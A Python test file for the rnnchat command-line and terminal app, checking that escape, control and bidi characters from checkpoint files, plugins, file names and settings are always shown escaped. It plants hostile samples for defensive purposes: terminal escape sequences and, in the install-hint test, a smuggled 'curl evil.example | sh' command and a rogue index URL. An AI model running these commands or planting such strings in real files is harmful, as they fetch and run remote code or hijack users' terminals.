"""Principle 6: text from files (and plugins) never reaches the terminal raw: control, escape and
bidi characters are shown escaped in the CLI and in the app (issue 15)."""

import json

import pytest
from click.testing import CliRunner

from rnnchat.core.errors import CheckpointError
from tests.conftest import run_cli
from tests.reliability.hostile import ESC_TEXTS, has_raw_escapes, rewrite_meta

HOSTILE = "".join(ESC_TEXTS)


def test_printable_escapes_every_control_character_and_keeps_ordinary_text():
    from rnnchat.core.safe_text import json_safe, markup_safe, printable

    for code in list(range(0x20)) + list(range(0x7F, 0xA0)) + [0x202E, 0x202D, 0x2066, 0x2069, 0x200F, 0x2028,
                                                                 0x061C, 0xFEFF]:
        shown = printable(f"a{chr(code)}b")
        assert chr(code) not in shown and shown.startswith("a") and shown.endswith("b"), hex(code)
    for text in ("plain", "héllo wörld", "日本語", "emoji 😀", "tabs are shown", "[bold]x[/]"):
        assert printable(text) == text
    assert printable("x" * 100, limit=10) == "x" * 9 + "…"
    assert markup_safe("[bold]x") == r"\[bold]x"
    data = {"a": HOSTILE, "b": "é😀"}
    text = json_safe(json.dumps(data, ensure_ascii=False))
    assert not has_raw_escapes(text) and json.loads(text) == data and "é😀" in text


def _hostile_checkpoint(make_checkpoint, tmp_path):
    return rewrite_meta(make_checkpoint(), tmp_path / "hostile.safetensors", lambda m: m.update(
        corpus={"name": HOSTILE, "sha256": "0" * 64}, description=HOSTILE, val_loss_method=HOSTILE,
        training={"note": HOSTILE}))


@pytest.mark.parametrize("as_json", [False, True], ids=["text", "json"])
def test_inspect_shows_escapes_never_sends_them(make_checkpoint, tmp_path, as_json):
    from rnnchat.cli import cli

    path = _hostile_checkpoint(make_checkpoint, tmp_path)
    result = CliRunner().invoke(cli, ["inspect", str(path)] + (["--json"] if as_json else []))
    assert result.exit_code == 0, result.output
    assert not has_raw_escapes(result.output)
    if as_json:
        assert json.loads(result.output)["corpus"]["name"] == HOSTILE  # still the same values
    else:
        assert "\\x1b]52;c;" in result.output


def test_models_listing_shows_escapes(make_checkpoint, rnnchat_home, tmp_path):
    from rnnchat.cli import cli
    from rnnchat.plugins.manager import get_host

    models = rnnchat_home / "data" / "models"
    models.mkdir(parents=True)
    _hostile_checkpoint(make_checkpoint, tmp_path).rename(models / "hostile.safetensors")
    (models / "broken.safetensors").write_bytes(b"\x1b]0;pwned\x07" * 10)
    get_host(reload=True)
    for args in (["models"], ["models", "--json"]):
        result = CliRunner().invoke(cli, args)
        assert result.exit_code == 0 and "hostile" in result.output and "broken" in result.output
        assert not has_raw_escapes(result.output)


def test_plugin_text_is_shown_escaped_in_cells_plugins_and_the_app(tmp_path, monkeypatch):
    from rnnchat.cli import cli
    from rnnchat.plugins.manager import get_host
    from rnnchat.tui.screens.plugins import render_plugin
    from tests import fakeplugins as fp

    site = tmp_path / "site"
    site.mkdir()
    fp.make_plugin(site, "shady", f"""
        from rnnchat.plugins import CellSpec, hookimpl

        @hookimpl
        def register_cells(register):
            register(CellSpec("shady", "rnnchat.engine.cells:GRUCell", {HOSTILE!r}))
            raise RuntimeError({HOSTILE!r})
    """)
    monkeypatch.syspath_prepend(str(site))
    host = get_host(reload=True)
    for args in (["cells"], ["cells", "--json"], ["plugins"], ["plugins", "--json"]):
        result = CliRunner().invoke(cli, args)
        assert result.exit_code == 0, result.output
        assert not has_raw_escapes(result.output), args
    for info in host.plugins.values():
        assert not has_raw_escapes(render_plugin(info.as_dict()).plain)


def test_cell_not_installed_hint_never_repeats_a_command_from_the_file(make_checkpoint, tmp_path):
    from rnnchat.engine.checkpoint import load_checkpoint

    for hint in ("x; curl evil.example | sh", "pkg\x1b]0;pwned\x07", "--index-url=http://evil"):
        path = rewrite_meta(make_checkpoint(), tmp_path / "hint.safetensors",
                            lambda m: m.update(cell="nonexistent", cell_plugin=hint))
        with pytest.raises(CheckpointError) as info:
            load_checkpoint(path)
        message = str(info.value)
        assert "curl" not in message and "evil" not in message and not has_raw_escapes(message)
    path = rewrite_meta(make_checkpoint(), tmp_path / "fine.safetensors",
                        lambda m: m.update(cell="nonexistent", cell_plugin="rnnchat-fancy-cells"))
    with pytest.raises(CheckpointError, match="rnnchat install rnnchat-fancy-cells"):
        load_checkpoint(path)


def test_error_lines_quoting_a_file_name_are_escaped(tmp_path):
    path = tmp_path / "evil\x1b]0;pwned\x07.safetensors"
    path.write_bytes(b"not a checkpoint at all")
    r = run_cli("inspect", str(path), timeout=60)
    assert r.returncode == 1 and "Traceback" not in r.stderr
    assert not has_raw_escapes(r.stderr) and "\\x1b" in r.stderr


def test_app_error_lines_and_panels_are_escaped():
    from rnnchat.core.errors import RnnchatError
    from rnnchat.tui.messages import one_line

    assert not has_raw_escapes(one_line(RnnchatError(HOSTILE)))
    assert not has_raw_escapes(one_line(ValueError(HOSTILE)))


def test_settings_with_control_characters_in_names_fall_back(rnnchat_home):
    from rnnchat.core import paths
    from rnnchat.session.settings import Settings

    paths.config_dir().mkdir(parents=True)
    paths.settings_file().write_text(json.dumps({"model": "x\x1b]0;t\x07", "theme": "\u202edark",
                                                 "temperature": 0.5}))
    settings, warning = Settings.load()
    assert settings.model is None and settings.theme is None and settings.temperature == 0.5
    assert "model=" in warning and not has_raw_escapes(warning)
